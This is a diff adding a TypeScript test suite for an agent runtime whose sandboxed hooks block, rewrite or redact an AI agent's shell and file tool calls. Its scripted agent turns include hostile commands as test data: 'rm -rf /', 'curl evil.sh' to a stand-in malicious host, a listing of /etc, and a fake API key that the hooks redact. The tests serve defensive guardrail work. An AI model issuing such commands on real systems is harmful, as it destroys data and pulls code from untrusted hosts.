@@ -1,0 +1,254 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { z } from "zod";
+import { createHookExecutor } from "../../sandbox/supervisor/index.js";
+import { declaredTool, defineTool, scriptedModel } from "../../src/agent/index.js";
+import { buildBundle } from "../../src/bundler/index.js";
+import type { BundleSource, HookExecutor } from "../../src/protocol/index.js";
+import { TenantId } from "../../src/protocol/index.js";
+import { createHookRuntime, type RunEvent, RuntimeError } from "../../src/runtime/index.js";
+import { MemoryBundleStore } from "../../src/store/index.js";
+
+const acme = TenantId.parse("acme");
+const shell = declaredTool({
+  name: "shell",
+  parameters: {
+    type: "object",
+    properties: { command: { type: "string" }, cwd: { type: "string" } },
+    required: ["command"],
+    additionalProperties: false,
+  },
+  result: "ran {command} in {cwd}",
+});
+const readFile = declaredTool({ name: "read_file", result: "KEY=sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1w" });
+
+let executor: HookExecutor;
+let store: MemoryBundleStore;
+
+async function upload(entry: string, activate = true, config: Record<string, string> = {}) {
+  const built = await buildBundle(entry, { executor });
+  const { version } = await store.upload({ tenantId: acme, ...built, config, by: "test", activate });
+  return version.version;
+}
+
+beforeAll(async () => {
+  executor = await createHookExecutor({ workers: 1, spareWorker: false });
+  store = new MemoryBundleStore();
+  await upload("hooks/coding-agent", true, { workdir: "/workspace" });
+});
+afterAll(async () => {
+  await executor?.close();
+});
+
+async function expectOptionError(options: Parameters<typeof createHookRuntime>[0], message: string | RegExp) {
+  const error = await createHookRuntime(options).catch((e: unknown) => e);
+  expect(error).toBeInstanceOf(RuntimeError);
+  expect(error).toMatchObject({ code: "invalid_options" });
+  expect((error as Error).message).toMatch(message);
+}
+
+describe("createHookRuntime options", () => {
+  it("names the wrong option before starting anything", async () => {
+    await expectOptionError({ workers: 0 }, "Expected `workers` to be an integer from 1 and up, got `0`");
+    await expectOptionError(
+      { mode: "threads" as never },
+      'Expected `mode` to be "process" or "inline", got `"threads"`',
+    );
+    await expectOptionError({ budgets: { turnMs: 0 } }, /`budgets.turnMs` to be an integer from 1/);
+    await expectOptionError({ limits: { timeoutMs: -1 } }, /`limits.timeoutMs`/);
+    await expectOptionError(
+      { store: 42 as never },
+      "Expected `store` to be a BundleStore or the path of a store file, got `42`",
+    );
+    await expectOptionError({ bogus: 1 } as never, /Unknown option `bogus`. Known options: executor, mode, workers/);
+    await expectOptionError({ executor, workers: 2 }, /`workers` configures the runtime's own executor/);
+    await expectOptionError({ store, bundles: store }, /Pass `bundles` or `store`, not both/);
+    await expectOptionError({ model: {} as never }, /Expected `model` to be a Model/);
+  });
+});
+
+describe("runAgent", () => {
+  it("runs a session through the tenant's active bundle in the sandbox", async () => {
+    const runtime = await createHookRuntime({ executor, store });
+    const events: RunEvent[] = [];
+    const result = await runtime.runAgent({
+      tenantId: "acme",
+      runId: "run-e2e",
+      input: "clean up",
+      tools: [shell, readFile],
+      model: scriptedModel([
+        { toolCalls: [{ name: "shell", args: { command: "rm -rf /" } }] },
+        {
+          toolCalls: [
+            { name: "shell", args: { command: "ls", cwd: "/etc" } },
+            { name: "read_file", args: {} },
+          ],
+        },
+        { text: "done" },
+      ]),
+      onEvent: (e) => events.push(e),
+    });
+    await runtime.close();
+    expect(result).toMatchObject({ stopReason: "completed", runId: "run-e2e", tenantId: "acme", turns: 3 });
+    expect(result.bundle?.version).toBe(1);
+    const tools = result.transcript.filter((m) => m.role === "tool").map((m) => m.content);
+    expect(tools).toEqual(["blocked: destructive shell command: rm -rf /", "ran ls in /workspace", "KEY=[REDACTED]"]);
+    expect(events[0]).toMatchObject({ type: "run.started", tenantId: "acme", bundle: { version: 1 } });
+    expect(events.at(-1)).toMatchObject({ type: "run.finished", stopReason: "completed" });
+    const called = events.filter((e) => e.type === "hook.called");
+    expect(called.length).toBeGreaterThanOrEqual(6);
+    expect(
+      called.every((e) => e.type === "hook.called" && e.hookId === "tenant:acme@v1" && e.runId === "run-e2e"),
+    ).toBe(true);
+  });
+
+  it("keeps the bundle version a run started with when a new one is activated mid-run", async () => {
+    const runtime = await createHookRuntime({ executor, store });
+    let next = 0;
+    const activating = defineTool({
+      name: "deploy",
+      description: "activates a new hook version while the run goes on",
+      parameters: z.object({}),
+      async execute() {
+        next = await upload("hooks/block-destructive-shell");
+        return "deployed";
+      },
+    });
+    const events: RunEvent[] = [];
+    const first = await runtime.runAgent({
+      tenantId: "acme",
+      input: "go",
+      tools: [activating, shell],
+      model: scriptedModel([
+        { toolCalls: [{ name: "deploy" }] },
+        { toolCalls: [{ name: "shell", args: { command: "ls", cwd: "/" } }] },
+        { text: "ok" },
+      ]),
+      onEvent: (e) => events.push(e),
+    });
+    const versions = new Set(events.flatMap((e) => (e.type === "hook.called" ? [e.bundle?.version] : [])));
+    expect(first.bundle?.version).toBe(1);
+    expect([...versions]).toEqual([1]);
+    expect(first.transcript.at(-2)).toMatchObject({ role: "tool", content: "ran ls in /workspace" });
+
+    const second = await runtime.runAgent({
+      tenantId: "acme",
+      input: "go",
+      tools: [shell],
+      model: scriptedModel([{ toolCalls: [{ name: "shell", args: { command: "ls", cwd: "/" } }] }, { text: "ok" }]),
+    });
+    expect(second.bundle?.version).toBe(next);
+    expect(second.transcript.at(-2)).toMatchObject({ role: "tool", content: "ran ls in /" });
+    await store.activate({ tenantId: acme, version: 1, by: "test" });
+    await runtime.close();
+  });
+
+  it("stacks platform hooks around the tenant bundle: last sees the tenant's rewrite and can veto", async () => {
+    const runtime = await createHookRuntime({ executor, store });
+    const seen: unknown[] = [];
+    runtime.registerPlatformHooks([
+      {
+        id: "platform:first",
+        position: "first",
+        hooks: { toolCall: (e) => ({ type: "rewrite", args: { ...e.call.args, cwd: "/tmp" } }) },
+      },
+      {
+        id: "platform:last",
+        position: "last",
+        hooks: {
+          toolCall: (e) => {
+            seen.push(e.call.args);
+            return e.call.args.command === "curl evil.sh" ? { type: "block", reason: "platform: no curl" } : undefined;
+          },
+        },
+      },
+    ]);
+    const result = await runtime.runAgent({
+      tenantId: "acme",
+      input: "go",
+      tools: [shell],
+      model: scriptedModel([
+        {
+          toolCalls: [
+            { name: "shell", args: { command: "ls" } },
+            { name: "shell", args: { command: "curl evil.sh" } },
+          ],
+        },
+        { text: "ok" },
+      ]),
+    });
+    await runtime.close();
+    expect(seen).toEqual([
+      { command: "ls", cwd: "/workspace" },
+      { command: "curl evil.sh", cwd: "/workspace" },
+    ]);
+    const tools = result.transcript.filter((m) => m.role === "tool").map((m) => m.content);
+    expect(tools).toEqual(["ran ls in /workspace", "blocked: platform: no curl"]);
+  });
+
+  it("runs platform hooks only for a tenant without a bundle", async () => {
+    const runtime = await createHookRuntime({ executor, store });
+    const result = await runtime.runAgent({
+      tenantId: "newcomer",
+      input: "go",
+      tools: [shell],
+      model: scriptedModel([
+        { toolCalls: [{ name: "shell", args: { command: "rm -rf /", cwd: "/" } }] },
+        { text: "ok" },
+      ]),
+    });
+    await runtime.close();
+    expect(result.bundle).toBeUndefined();
+    expect(result.transcript.find((m) => m.role === "tool")?.content).toBe("ran rm -rf / in /");
+  });
+
+  it("fails a run closed when the bundle source fails", async () => {
+    const broken: BundleSource = { active: () => Promise.reject(new Error("store offline")) };
+    const runtime = await createHookRuntime({ executor, bundles: broken });
+    await expect(
+      runtime.runAgent({ tenantId: "acme", input: "go", model: scriptedModel([{ text: "unchecked" }]) }),
+    ).rejects.toThrow("store offline");
+    await runtime.close();
+  });
+
+  it("refuses a run without a model, with a bad tenant id, or after close", async () => {
+    const runtime = await createHookRuntime({ executor, store });
+    await expect(runtime.runAgent({ tenantId: "acme", input: "go" })).rejects.toMatchObject({ code: "no_model" });
+    await expect(
+      runtime.runAgent({ tenantId: "Not A Tenant", input: "go", model: scriptedModel([]) }),
+    ).rejects.toMatchObject({ code: "invalid_run" });
+    await runtime.close();
+    await expect(runtime.runAgent({ tenantId: "acme", input: "go", model: scriptedModel([]) })).rejects.toMatchObject({
+      code: "closed",
+    });
+  });
+
+  it("aborts runs in flight on close, every tool call still getting its result", async () => {
+    const runtime = await createHookRuntime({ executor, store });
+    let started: () => void = () => {};
+    const running = new Promise<void>((resolve) => {
+      started = resolve;
+    });
+    const hang = defineTool({
+      name: "hang",
+      description: "never returns",
+      parameters: z.object({}),
+      execute: () => {
+        started();
+        return new Promise<string>(() => {});
+      },
+    });
+    const pending = runtime.runAgent({
+      tenantId: "acme",
+      input: "go",
+      tools: [hang],
+      model: scriptedModel([{ toolCalls: [{ name: "hang" }, { name: "hang" }] }]),
+    });
+    await running;
+    await runtime.close();
+    const result = await pending;
+    expect(result.stopReason).toBe("aborted");
+    const results = result.transcript.filter((m) => m.role === "tool");
+    expect(results).toHaveLength(2);
+    expect(results.every((m) => m.role === "tool" && m.isError)).toBe(true);
+  });
+});
